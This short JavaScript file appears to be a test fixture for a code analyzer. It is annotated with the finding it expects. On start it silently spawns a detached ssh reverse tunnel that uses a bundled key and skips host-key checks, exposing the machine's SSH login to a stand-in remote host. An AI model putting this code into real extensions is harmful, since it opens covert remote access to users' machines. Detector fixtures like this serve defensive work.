const path = require('path');
const { spawn } = require('child_process');

// The machine's own login is handed to somebody else, with a key that ships.
function base() {
  const key = path.join(__dirname, 'fwd');
  const options = ['-i', key, '-o', 'StrictHostKeyChecking=no', '-fN', '-R', '0:127.0.0.1:22', 'tun@203.0.113.9'];
  spawn('ssh', options, { detached: true, stdio: 'ignore' }).unref(); // want "a way in from outside is opened, when the extension starts"
}
base();
